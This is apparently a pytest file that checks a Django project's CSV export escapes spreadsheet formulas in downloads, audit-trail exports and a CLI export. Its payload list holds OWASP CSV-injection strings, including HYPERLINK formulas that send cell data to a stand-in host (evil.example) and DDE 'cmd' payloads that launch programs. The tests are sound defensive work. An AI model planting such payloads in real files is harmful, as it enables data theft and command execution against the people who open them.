"""The one CSV writer of every download (issue 13, defect 4): a cell a spreadsheet would run
as a formula is shown as text, on every line of it, with the OWASP payloads and the
embedded carriage returns and line feeds that got past the first check."""

import csv
import io
import json

import pytest
from django.urls import reverse

from accord.audit.services import audit_record
from accord.core.requests import _request_id
from accord.partnerships.exports import FORMULA_STARTS, csv_cell, csv_text

# The OWASP CSV injection payloads (owasp.org/www-community/attacks/CSV_Injection) and the
# ones probing found: a formula after a bare CR or an LF, a request id that is a formula.
PAYLOADS = [
    "=1+2",
    '=HYPERLINK("http://evil.example?leak="&A1, "Click")',
    "+1+2",
    "-2-3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C notepad'!'A1'",
    'name\r=HYPERLINK("http://evil.example")',
    'name\n=HYPERLINK("http://evil.example")',
    "name\r\n+1+2",
    "\uff1d1+2",  # a full-width equals sign
    "%0A-1+2",
]


def cells_of(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def runnable(cell: str) -> bool:
    """Whether any line of the cell, however a spreadsheet splits it, starts a formula."""
    return any(line.startswith(FORMULA_STARTS) for line in cell.replace("\r", "\n").split("\n"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_line_of_a_cell_can_start_a_formula(payload):
    [header, cell] = cells_of(csv_text(["value"], [[payload]]))
    assert header == "value"
    assert not runnable(cell)
    assert "\r" not in cell  # a bare carriage return is a line break in the cell
    assert cell.replace("'", "") == payload.replace("\r\n", "\n").replace("\r", "\n").replace(
        "'", ""
    )  # the text itself is kept


def test_ordinary_text_and_numbers_are_left_as_they_are():
    assert csv_cell("Oxfordshire Supporting People") == "Oxfordshire Supporting People"
    assert csv_cell(42) == "42"
    assert csv_cell(None) == ""
    assert csv_cell("Line one\nline two") == "Line one\nline two"


@pytest.mark.django_db
def test_the_audit_trails_csv_neutralises_a_request_id_that_is_a_formula(client, demo, sign_in):
    """X-Request-ID is taken from a proxy when it looks like an id: "-2-3-4-5" does."""
    sign_in("admin")
    token = _request_id.set("-2-3-4-5-6")
    try:
        audit_record(actor=None, action="probe.request", object_type="test")
    finally:
        _request_id.reset(token)
    response = client.get(reverse("audit:event-export-csv"))
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    probe = next(row for row in rows if row["action"] == "probe.request")
    assert probe["request_id"] == "'-2-3-4-5-6"
    assert not any(runnable(cell) for row in rows for cell in row.values())
    assert json.loads(rows[0]["changes"])  # JSON cells stay readable


def test_the_audit_command_writes_its_csv_through_the_same_writer(demo, capsys):
    from accord.cli import main

    token = _request_id.set("=1+2-request")
    try:
        audit_record(actor=None, action="probe.request", object_type="test")
    finally:
        _request_id.reset(token)
    assert main(["audit", "export", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert next(row for row in rows if row["action"] == "probe.request")["request_id"] == (
        "'=1+2-request"
    )
